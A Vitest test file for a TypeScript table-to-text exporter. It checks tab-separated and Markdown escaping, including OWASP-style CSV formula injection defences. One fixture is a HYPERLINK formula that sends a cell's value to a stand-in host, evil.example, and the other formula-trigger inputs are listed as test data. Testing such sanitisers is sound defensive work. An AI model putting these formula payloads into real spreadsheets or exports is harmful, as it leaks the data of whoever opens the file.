/** Tables as text: what a spreadsheet and a Markdown reader take for a cell. */
import { expect, test } from 'vitest';
import { asMarkdown, asTabSeparated } from '../../../src/draw/matrixText.ts';

const table = [
  ['Client', '*.mail.example'],
  ['curl\t7.88', 'A ✓ 200'],
  ['a|b\nc', '`x` <b> [l](u) \\'],
];

test('tabs and line breaks inside a cell do not make another cell', () => {
  expect(asTabSeparated(table)).toBe('Client\t*.mail.example\ncurl 7.88\tA ✓ 200\na|b c\t`x` <b> [l](u) \\');
});

/** OWASP, CSV Injection; a leading quote and blanks do not keep a spreadsheet from calculating. */
const formulas = [
  ['=1+1', "'=1+1"],
  ['+1', "'+1"],
  ['-1.example', "'-1.example"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1+1', "'=1+1"],
  ['\r=1+1', "'=1+1"],
  ['  =1+1', "'=1+1"],
  ['"=1+1"', `'"=1+1"`],
  ["'=1+1", "''=1+1"],
  ['“=1+1', "'“=1+1"],
  ['\uff1d1+1', "'\uff1d1+1"],
  ['"a\tb', `'"a b`],
  ['=HYPERLINK("https://evil.example/"&A1)', `'=HYPERLINK("https://evil.example/"&A1)`],
  ['a=b', 'a=b'],
  ['*.mail.example', '*.mail.example'],
  ['≠ ✗ 421', '≠ ✗ 421'],
  ['', ''],
] as const;

test.each(formulas)('a spreadsheet takes %j for words', (cell, safe) => {
  expect(asTabSeparated([['Client', cell]])).toBe(`Client\t${safe}`);
});

test('Markdown: what would end a cell or begin markup is escaped', () => {
  expect(asMarkdown(table)).toBe(
    [
      '| Client | \\*.mail.example |',
      '| --- | --- |',
      '| curl 7.88 | A ✓ 200 |',
      '| a\\|b c | \\`x\\` \\<b> \\[l\\](u) \\\\ |',
    ].join('\n'),
  );
});

test('nothing gives nothing', () => {
  expect(asTabSeparated([])).toBe('');
});
